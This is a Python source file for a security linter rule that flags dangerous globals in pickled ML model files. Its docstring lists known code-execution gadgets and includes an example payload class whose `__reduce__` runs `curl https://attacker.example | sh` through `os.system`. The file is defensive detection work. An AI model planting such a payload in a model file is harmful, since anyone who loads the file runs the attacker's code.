from __future__ import annotations

from mlwarden.artifacts import examples as ex
from mlwarden.core.finding import Severity
from mlwarden.core.rule import FileRule, Invalid, Valid


class DangerousPickleGlobal(FileRule):
    """## What it does
    Reads every pickle inside a committed model file — plain pickles, PyTorch
    checkpoints (zip and legacy), TorchScript, joblib, numpy object arrays,
    gzip-wrapped pickles, pickles nested in `pickle.loads(b"...")` — without
    loading it, and flags globals that are known code-execution gadgets:
    `os`/`posix`/`nt`, `subprocess`, `builtins.eval`/`exec`/`compile`/
    `getattr`/`__import__`/`open`, `pip`, `importlib`, `pkgutil`, `runpy`,
    `pty`, `socket`, `ctypes`, `marshal`, `pickle`, `shutil`, `webbrowser`,
    asyncio subprocess transports, `code`, `types.CodeType`, `operator`
    `attrgetter`/`methodcaller`, `functools.partial`, `cProfile.run` and more.
    It also flags a `BUILD` or `SETITEM` that modifies a class or module
    itself while loading.

    The file is chosen by content: a `.bin` that is a plain pickle is read as
    a pickle. Python 2 names (`__builtin__.eval`), odd whitespace in protocol
    0 names, names assembled in the memo for `STACK_GLOBAL` and attribute
    chains (`torch._utils` + `os.system`) are resolved as the unpickler
    resolves them.

    ## Why is this bad?
    Loading such a file runs the attacker's command: `torch.load` (with
    `weights_only=False` or on torch < 2.6), `pickle.load`, `joblib.load` and
    `numpy.load(allow_pickle=True)` call whatever the pickle names. Hub
    models have carried reverse shells this way.

    ## Example
    ```python
    import os, torch

    class Payload:
        def __reduce__(self):
            return (os.system, ("curl https://attacker.example | sh",))

    torch.save({"weights": Payload()}, "model.pt")  # the committed model.pt is flagged
    ```

    ## Use instead
    ```python
    from safetensors.torch import save_file

    save_file(model.state_dict(), "model.safetensors")
    ```
    Delete the file, do not load it, and find out where it came from.

    ## Known problems
    Findings point at line 1 of the binary file; the message names the
    archive member and byte offset. `# noqa` cannot be written into a binary:
    accept a reviewed file with the baseline. `allow-globals` never silences
    this rule.

    ## References
    - [CWE-502: Deserialization of Untrusted Data](https://cwe.mitre.org/data/definitions/502.html)
    - [OWASP ML06:2023 AI Supply Chain Attacks](https://owasp.org/www-project-machine-learning-security-top-10/docs/ML06_2023-AI_Supply_Chain_Attacks)
    - [OWASP ML10:2023 Model Poisoning](https://owasp.org/www-project-machine-learning-security-top-10/docs/ML10_2023-Model_Poisoning)
    - [CVE-2025-32434: torch.load RCE even with weights_only=True (torch < 2.6)](https://nvd.nist.gov/vuln/detail/CVE-2025-32434)
    - [Python docs: pickle — "The pickle module is not secure"](https://docs.python.org/3/library/pickle.html)
    """

    id = "MLW601"
    name = "dangerous-pickle-global"
    severity = Severity.CRITICAL
    cwe = (502, 94)
    owasp = ("ML06:2023", "ML10:2023")
    advice = "do not load it and re-export the weights as safetensors"
    message = f"`os.system` in a model file runs code when the file is loaded; {advice}"
    applies_to = frozenset({"model"})

    VALID = [
        Valid(ex.P0_ORDERED_DICT, filename="model.pkl"),
        Valid(ex.P0_UNLISTED, filename="model.pkl"),
        Valid(ex._TOK, filename="model.pt"),
    ]
    INVALID = [
        Invalid(ex.P0_OS_SYSTEM, filename="model.pkl"),
        Invalid(ex.P0_OS_SYSTEM, filename="pytorch_model.bin"),
        Invalid(ex.P0_BUILTIN_EVAL, filename="weights.pt"),
    ]

    def check(self, unit):
        from mlwarden.artifacts.allowlist import ref_danger
        from mlwarden.artifacts.findings import first_of_each, identity, where
        from mlwarden.artifacts.report import DANGEROUS
        from mlwarden.sources.model import model_report

        report = model_report(unit)
        for ref in first_of_each(report.globals, lambda g: (g.member, g.name)):
            why = ref_danger(ref)
            if why:
                shown = f"`{ref.name}`" if ref.raw == ref.name else f"`{ref.name}` (written `{ref.raw}`)"
                yield self.finding(
                    unit,
                    1,
                    1,
                    f"{shown} in a model file can run code when it is loaded ({where(ref.member, ref.offset)}: {why}); {self.advice}",
                    snippet_hash=identity(self.id, ref.member, ref.name),
                )
        for issue in first_of_each(report.of_kind(DANGEROUS), lambda i: (i.member, i.key)):
            yield self.finding(
                unit,
                1,
                1,
                f"{issue.detail} ({where(issue.member, issue.offset)}); {self.advice}",
                snippet_hash=identity(self.id, issue.member, issue.key),
            )
